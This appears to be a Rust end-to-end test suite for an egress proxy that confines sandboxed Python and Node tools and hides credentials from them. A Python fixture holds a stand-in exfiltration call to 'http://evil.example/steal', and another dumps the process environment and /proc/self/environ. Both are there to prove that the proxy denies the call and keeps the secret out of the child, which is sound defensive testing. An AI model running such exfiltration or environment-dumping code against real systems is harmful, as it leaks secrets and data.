//! End to end with the real `egress-proxy` binary: a Python tool run by the
//! executor fetches through the proxy with the credential of its run. An
//! allowlisted loopback origin (127.0.0.2) answers; a name that is not
//! allowlisted is denied without DNS and shows up in the result's `facts`;
//! load-time code is denied because the warm child's run is not active yet.
//! Loopback only; the proxy's DNS servers point at a closed loopback port.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::SocketAddr;
use std::time::Duration;

use egress_e2e::credentials::{api_credential, write_secret};
use egress_e2e::executor::*;
use egress_e2e::stack::{proxy_bin, start_stack, Stack};
use egress_executor::InvocationRequest;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A one-response HTTP origin on 127.0.0.2:0.
async fn origin() -> SocketAddr {
    let l = tokio::net::TcpListener::bind("127.0.0.2:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((mut s, _)) = l.accept().await else { return };
            tokio::spawn(async move {
                let mut buf = vec![0u8; 4096];
                let mut got = Vec::new();
                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => got.extend_from_slice(&buf[..n]),
                    }
                }
                let body = b"hello from the origin";
                let head = format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\ncontent-type: text/plain\r\nconnection: close\r\n\r\n",
                    body.len()
                );
                let _ = s.write_all(head.as_bytes()).await;
                let _ = s.write_all(body).await;
            });
        }
    });
    addr
}

const FETCH_PY: &str = r#"
import json, os, urllib.request, urllib.error

def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "reason": e.headers.get("X-Egress-Deny-Reason"), "body": e.read().decode()}

# Load phase: the run exists but is not active, so this is denied.
AT_LOAD = fetch(os.environ["ORIGIN"] + "/at-load")

def run(input, ctx):
    allowed = fetch(os.environ["ORIGIN"] + "/hello")
    ctx.emit({"fetched": allowed["status"]})
    denied = fetch("http://evil.example/steal")
    return {"at_load": AT_LOAD, "allowed": allowed, "denied": denied}
"#;

#[tokio::test]
async fn python_tool_fetches_through_the_real_proxy() {
    let Some(bin) = proxy_bin() else {
        // `cargo test` does not build another package's binary: CI runs
        // `cargo build -p egress-proxy` first.
        eprintln!("SKIPPED python_tool_fetches_through_the_real_proxy: egress-proxy binary not built (run `cargo build -p egress-proxy` first, or set EGRESS_PROXY_BIN)");
        return;
    };
    if python().is_none() {
        return;
    }
    let origin = origin().await;
    let dir = TempDir::new("e2e");
    dir.write("fetch.py", FETCH_PY);
    // A closed loopback port as the only DNS server: nothing may resolve.
    let dns = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let dns_addr = dns.local_addr().unwrap();
    let runner = python_runner();
    let tools = format!(
        r#"
[tools.fetcher]
egress = ["127.0.0.2:{port}"]

[tools.fetcher.process]
command = ["python3", "{runner}", "fetch.py"]
env = {{ ORIGIN = "http://127.0.0.2:{port}" }}
pool = {{ warm = 1, max = 2 }}
timeout_ms = 20000
"#,
        port = origin.port(),
        runner = runner.display()
    );
    let Stack { proxy, exec, .. } = start_stack(&bin, &dir, dns_addr, &tools);
    exec.warm_up();
    let pool = exec.pool("fetcher").unwrap().clone();
    assert!(eventually(Duration::from_secs(30), || pool.counts().0 == 1).await);

    let res = exec
        .invoke(InvocationRequest {
            idempotency_key: Some("e2e-1".into()),
            ..invocation("fetcher", json!(null))
        })
        .await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    assert_eq!(out["allowed"]["status"], json!(200), "{out}");
    assert_eq!(out["allowed"]["body"], json!("hello from the origin"));
    assert_eq!(out["denied"]["status"], json!(403), "{out}");
    assert_eq!(out["denied"]["reason"], json!("not_allowlisted"));
    assert_eq!(out["at_load"]["status"], json!(403), "{out}");
    assert_eq!(out["at_load"]["reason"], json!("run_not_active"));
    assert_eq!(res.emits, vec![json!({"fetched": 200})]);

    // The proxy recorded the denials as facts of this run.
    let run_id = res.run_id.clone().unwrap();
    let reasons: Vec<&str> = res.facts.iter().map(|f| f.reason.as_str()).collect();
    assert!(reasons.contains(&"not_allowlisted"), "{:#?}", res.facts);
    assert!(reasons.contains(&"run_not_active"), "{:#?}", res.facts);
    for f in &res.facts {
        assert_eq!(f.run_id.as_deref(), Some(run_id.as_str()));
        assert_eq!(f.tool.as_deref(), Some("fetcher"));
    }
    let denied = res.facts.iter().find(|f| f.reason == "not_allowlisted").unwrap();
    assert_eq!(denied.target.as_ref().unwrap().host, "evil.example");
    drop(dns);
    drop(proxy);
}

const ENV_PY: &str = r#"
import os

def run(input, ctx):
    try:
        with open("/proc/self/environ", "rb") as f:
            proc = f.read().decode("latin-1")
    except OSError as e:
        proc = "unreadable: " + str(e)
    return {"env": dict(os.environ), "proc": proc}
"#;

/// A tool with a credential: its child's environment (as Python sees it and
/// as `/proc/self/environ` holds it) has the run's placeholder under
/// `placeholder_env` and the proxy variables the proxy gave, never the
/// secret, which only the proxy loaded.
#[tokio::test]
async fn a_childs_environment_holds_the_placeholder_never_the_secret() {
    const SECRET: &str = "tok-EXECUTOR-SECRET-77aa";
    let Some(bin) = proxy_bin() else {
        eprintln!("SKIPPED a_childs_environment_holds_the_placeholder_never_the_secret: egress-proxy binary not built");
        return;
    };
    if python().is_none() {
        return;
    }
    let dir = TempDir::new("e2e-cred");
    dir.write("env.py", ENV_PY);
    write_secret(&dir.path().join("api.token"), SECRET, 0o600);
    let dns = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let dns_addr = dns.local_addr().unwrap();
    let runner = python_runner();
    let tools = format!(
        r#"
[tools.envdump]
egress = ["127.0.0.2:8080"]

{credential}

[tools.envdump.process]
command = ["python3", "{runner}", "env.py"]
pool = {{ warm = 1, max = 1 }}
timeout_ms = 20000
"#,
        runner = runner.display(),
        credential = api_credential("envdump", "127.0.0.2:8080", "{ file = \"api.token\" }")
    );
    let Stack { proxy, exec, .. } = start_stack(&bin, &dir, dns_addr, &tools);
    let res = exec
        .invoke(InvocationRequest {
            idempotency_key: Some("e2e-cred-1".into()),
            ..invocation("envdump", json!(null))
        })
        .await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    let env = &out["env"];
    let ph = env["API_TOKEN"].as_str().unwrap();
    assert!(ph.starts_with("loom-cred-"), "{out}");
    assert!(env["HTTP_PROXY"].as_str().unwrap().contains('@'), "{out}");
    // The SOCKS5 form names the same listener the child reaches.
    let socks = env["HTTP_PROXY"].as_str().unwrap().replacen("http://", "socks5h://", 1);
    assert_eq!(env["LOOM_SOCKS_PROXY"].as_str(), Some(socks.as_str()), "{out}");
    assert!(!out.to_string().contains(SECRET), "the secret is in the child: {out}");
    let proc = out["proc"].as_str().unwrap();
    if !proc.starts_with("unreadable") {
        assert!(proc.contains(&format!("API_TOKEN={ph}")), "{proc}");
    }
    drop(dns);
    drop(proxy);
}

const FETCH_MJS: &str = r#"
export async function run(input, ctx) {
  const r = await ctx.fetch(process.env.API_URL + '/fetch?k=1', {
    headers: { authorization: 'Bearer ' + process.env.API_TOKEN },
  });
  return { status: r.status, body: r.body, token: process.env.API_TOKEN, ca: process.env.NODE_EXTRA_CA_CERTS };
}
"#;

const FETCH_HTTPS_PY: &str = r#"
import os

def run(input, ctx):
    r = ctx.fetch(os.environ["API_URL"] + "/fetch?k=1",
                  headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
    return {"status": r["status"], "body": r["body"].decode(), "token": os.environ["API_TOKEN"],
            "ca": os.environ["SSL_CERT_FILE"]}
"#;

/// HTTPS through interception as the reference runners do it: `ctx.fetch`
/// opens a CONNECT to the credential host and trusts the appliance CA
/// through the run's env alone (`NODE_EXTRA_CA_CERTS` for Node,
/// `SSL_CERT_FILE` for Python; nothing configured in the tool), sending the
/// placeholder; the origin (HTTPS, its own test CA) gets the secret, and the
/// child's result holds only the placeholder.
async fn runner_https_fetch(runner: &str, program: &str, script: (&str, &str), ca_file: &str) {
    const SECRET: &str = "tok-RUNNER-HTTPS-SECRET-31c4";
    let Some(bin) = proxy_bin() else {
        eprintln!("SKIPPED the {runner} HTTPS fetch: egress-proxy binary not built");
        return;
    };
    let dir = TempDir::new("e2e-runner-https");
    dir.write(script.0, script.1);
    write_secret(&dir.path().join("api.token"), SECRET, 0o600);
    let origin = egress_e2e::tls_origin::tls_origin("127.0.0.2:0", &["api.example"]).await;
    let roots = dir.write("origin-ca.pem", &origin.ca_pem);
    let dns = egress_e2e::FakeDns::start().await;
    dns.set("api.example", &["127.0.0.2"]);
    let port = origin.addr.port();
    let runner_path = runners_dir().join(runner);
    let tools = format!(
        r#"
[proxy.interception]
upstream_ca_file = "{roots}"

[tools.httpsfetch]
egress = ["api.example:{port}"]

{credential}

[tools.httpsfetch.process]
command = ["{program}", "{runner}", "{script}"]
env = {{ API_URL = "https://api.example:{port}" }}
pool = {{ warm = 1, max = 1 }}
timeout_ms = 20000
"#,
        roots = roots.display(),
        credential = api_credential("httpsfetch", &format!("api.example:{port}"), "{ file = \"api.token\" }"),
        runner = runner_path.display(),
        script = script.0
    );
    let Stack { proxy, exec, .. } = start_stack(&bin, &dir, dns.addr, &tools);
    let res = exec.invoke(invocation("httpsfetch", json!(null))).await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    assert_eq!(out["status"], 200, "{out}");
    assert_eq!(out["body"], "ok from the tls origin\n", "{out}");
    let ph = out["token"].as_str().unwrap();
    assert!(ph.starts_with("loom-cred-"), "{out}");
    assert!(out["ca"].as_str().unwrap().ends_with(ca_file), "{out}");
    let heads = origin.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0]
            .to_ascii_lowercase()
            .contains(&format!("authorization: bearer {}\n", SECRET.to_ascii_lowercase())),
        "{heads:?}"
    );
    assert!(!heads[0].contains(ph), "{heads:?}");
    let whole = format!("{res:?}");
    assert!(
        !whole.contains(SECRET),
        "the secret reached the child's result: {whole}"
    );
    exec.shutdown();
    drop(proxy);
}

#[tokio::test]
async fn a_node_tool_s_https_fetch_carries_the_secret_only_past_the_proxy() {
    if node().is_none() {
        eprintln!("SKIPPED a_node_tool_s_https_fetch_carries_the_secret_only_past_the_proxy: no node");
        return;
    }
    runner_https_fetch("loom_runner.js", "node", ("fetch.mjs", FETCH_MJS), "ca.pem").await;
}

#[tokio::test]
async fn a_python_tool_s_https_fetch_carries_the_secret_only_past_the_proxy() {
    if python().is_none() {
        return;
    }
    runner_https_fetch(
        "loom_runner.py",
        "python3",
        ("fetch_https.py", FETCH_HTTPS_PY),
        "bundle.pem",
    )
    .await;
}
